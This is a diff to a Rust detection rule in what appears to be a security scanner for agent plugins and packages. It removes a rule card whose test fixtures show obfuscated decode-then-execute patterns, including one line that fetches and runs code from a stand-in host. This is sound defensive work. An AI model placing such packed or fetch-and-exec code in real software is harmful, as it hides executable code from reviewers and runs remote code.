@@ -5,7 +5,7 @@ use std::sync::LazyLock;
 use regex::Regex;
 
 use super::source_calls::{source_files, weighed};
-use crate::{FactSink, Rule, RuleMeta};
+use crate::FactSink;
 use capdex_evidence::code::sinks::{evaluates, runs_shell, spawns, text_of};
 use capdex_evidence::code::{Argument, Call, TaintSources};
 use capdex_evidence::document::Document;
@@ -13,157 +13,23 @@ use capdex_evidence::subject::Subject;
 use capdex_evidence::zones::ZoneKind;
 use capdex_model::fact::{Confidence, Severity};
 
-/// See the file's first line.
-pub(super) struct SourceDecodeThenExecute;
-
-static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("the card is valid"));
-
-const CARD: &str = r##"
-id = "source-decode-then-execute"
-version = 3
-title = "Hidden code is decoded and run"
-why = "Honest programs ship their code readable. Code that is packed into a string is packed to pass a reviewer."
-fix = "Ship the code as files."
-cannot_see = "Code that is decoded in one file and run in another; encodings written by hand."
-severity = "critical"
-confidence = "high"
-kinds = ["skill", "mcp_server", "hook", "plugin", "package"]
-lifecycle = "stable"
-cites = ["CWE-506", "SAFE-T1203", "mcp-scan:E006@C"]
-[codes]
-spiderrating = ["TS-E011"]
-agentscore = ["unsafe_eval"]
-[[examples.fires]]
-note = "atob into eval."
-[examples.fires.files]
-"index.js" = 'const p = atob("Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik7"); eval(p);'
-[[examples.fires]]
-note = "base64 into exec."
-[examples.fires.files]
-"x.py" = '''
-import base64
-exec(base64.b64decode("cHJpbnQoMSkKcHJpbnQoMikK").decode())
-'''
-[[examples.fires]]
-note = "base64 into a shell."
-[examples.fires.files]
-"x.py" = '''
-import os, base64
-os.system(base64.b64decode("bHMgLWw=").decode())
-'''
-[[examples.fires]]
-note = "Reversed, packed and run through a lambda."
-[examples.fires.files]
-"x.py" = '''
-_ = lambda text: __import__("zlib").decompress(__import__("base64").b64decode(text[::-1]))
-exec((_)(b"PAAAAAAA"))
-'''
-[[examples.fires]]
-note = "Numbers into text into code, and decrypted code."
-[examples.fires.files]
-"x.py" = '''
-from cryptography.fernet import Fernet
-exec("".join(chr(n) for n in [112, 97, 115, 115]))
-exec(Fernet(KEY).decrypt(BLOB))
-'''
-[[examples.fires]]
-note = "Hexadecimal by way of a function and another name for eval."
-[examples.fires.files]
-"a.js" = '''
-const run = eval;
-function open(text) { return Buffer.from(text, "hex").toString(); }
-run(open("636f6e736f6c65"));'''
-[[examples.fires]]
-note = "A literal that is turned round."
-[examples.fires.files]
-"a.js" = 'eval(")1(gol.elosnoc".split("").reverse().join(""));'
-[[examples.fires]]
-note = "A program in a literal that fetches another."
-[examples.fires.files]
-"x.py" = """
-import tempfile, subprocess
-f = tempfile.NamedTemporaryFile(delete=False)
-f.write(b'from urllib.request import urlopen;exec(urlopen("https://files.test/a").read())')
-f.close()
-subprocess.Popen(["python", f.name])
-"""
-[[examples.fires]]
-note = "Numbers that are turned by another number."
-[examples.fires.files]
-"x.py" = "DATA = [12, 33]\nexec(bytes(b ^ 23 for b in DATA))\n"
-[[examples.fires]]
-note = "Decoded text goes to an interpreter."
-[examples.fires.files]
-"x.py" = '''
-import base64, subprocess, sys
-subprocess.run([sys.executable, "-c", base64.b64decode("cHJpbnQoMSk=").decode()])
-'''
-[[examples.fires]]
-note = "Decoded text is written to a file that is run."
-[examples.fires.files]
-"x.py" = '''
-import base64, subprocess
-open("/tmp/u.py", "wb").write(base64.b64decode("cHJpbnQoMSk="))
-subprocess.Popen(["python3", "/tmp/u.py"])
-'''
-[[examples.fires]]
-note = "A module out of a literal."
-[examples.fires.files]
-"x.mjs" = 'const d = "ZXhwb3J0"; eval("0"); await import("data:text/javascript;base64," + d);'
-[[examples.silent]]
-note = "A decoded picture is handed to a program."
-[examples.silent.files]
-"x.py" = '''
-import base64, subprocess
-open("/tmp/u.png", "wb").write(base64.b64decode("cHJpbnQoMSk="))
-subprocess.run(["convert", "/tmp/u.png", "a.jpg"])
-'''
-[[examples.silent]]
-note = "A word that a scanner looks for."
-[examples.silent.files]
-"x.py" = 'import subprocess\nBAD = ["exec(base64.b64decode(", "eval(zlib.decompress("]\n'
-[[examples.silent]]
-note = "A list that is turned round."
-[examples.silent.files]
-"x.py" = '''
-def value(items, names):
-    total = 0
-    for item in items[::-1]:
-        total += eval(item, {}, names)
-    return total
-'''
-[[examples.silent]]
-note = "Decoded data."
-[examples.silent.files]
-"x.py" = '''
-import base64, json
-print(json.loads(base64.b64decode("e30=")))
-'''
-"##;
-
-impl Rule for SourceDecodeThenExecute {
-    fn meta(&self) -> &RuleMeta {
-        &META
-    }
-
-    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
-        for file in source_files(subject) {
-            if let Some((document, at)) = subject.evidence.documents.get(file.path).and_then(packed_program) {
-                let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
-                let evidence = document.text.get(at..).unwrap_or_default();
-                facts.found_as(severity, confidence, document.place(at), evidence);
-            }
-            for call in file.view.calls.iter().filter(|call| interprets_decoded(call)) {
-                let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
+pub(super) fn check(subject: &Subject<'_>, facts: &mut FactSink<'_>) {
+    for file in source_files(subject) {
+        if let Some((document, at)) = subject.evidence.documents.get(file.path).and_then(packed_program) {
+            let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
+            let evidence = document.text.get(at..).unwrap_or_default();
+            facts.found_as(severity, confidence, document.place(at), evidence);
+        }
+        for call in file.view.calls.iter().filter(|call| interprets_decoded(call)) {
+            let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
+            facts.found_as(severity, confidence, call.place.clone(), &call.text);
+        }
+        for call in file.view.calls.iter().filter(|call| {
+            evaluates(call) || runs_shell(call) || matches!(call.callee.as_str(), "import" | "*.constructor")
+        }) {
+            if decodes(call) || imports_data(call) {
+                let (severity, confidence) = weighed(&file, Severity::Critical, Confidence::High);
                 facts.found_as(severity, confidence, call.place.clone(), &call.text);
-            }
-            for call in file.view.calls.iter().filter(|call| {
-                evaluates(call) || runs_shell(call) || matches!(call.callee.as_str(), "import" | "*.constructor")
-            }) {
-                if decodes(call) || imports_data(call) {
-                    let (severity, confidence) = weighed(&file, Severity::Critical, Confidence::High);
-                    facts.found_as(severity, confidence, call.place.clone(), &call.text);
-                }
             }
         }
     }
@@ -181,7 +47,7 @@ fn packed_program(document: &Document) -> Option<(&Document, usize)> {
     in_literals.find(|at| imports_before(document, *at)).map(|at| (document, at))
 }
 
-/// Whether a module is imported within a literal just before a place.
+/// True where a module is imported within a literal just before a place.
 fn imports_before(document: &Document, at: usize) -> bool {
     let text = document.text.as_str();
     let from = (at.saturating_sub(300)..at).find(|from| text.is_char_boundary(*from)).unwrap_or(at);
@@ -189,7 +55,7 @@ fn imports_before(document: &Document, at: usize) -> bool {
     import.is_some_and(|import| document.zone_at(from + import) == ZoneKind::Literal)
 }
 
-/// Whether what is run comes from a decoder, directly or through a constant.
+/// True where the text that is run comes from a decoder, directly or through a constant.
 fn decodes(call: &Call) -> bool {
     let from_decoder = call.arguments.iter().any(|argument| match argument {
         Argument::Result(callee) => is_decoder(callee, &call.text),
@@ -238,7 +104,7 @@ fn is_decoder(callee: &str, text: &str) -> bool {
     }
 }
 
-/// Whether a decoder stands within the call's own parentheses.
+/// True where a decoder stands within the call's own parentheses.
 fn opens_with(text: &str, token: &str) -> bool {
     let Some(open) = text.find('(') else { return false };
     let Some(at) = text.find(token) else { return false };
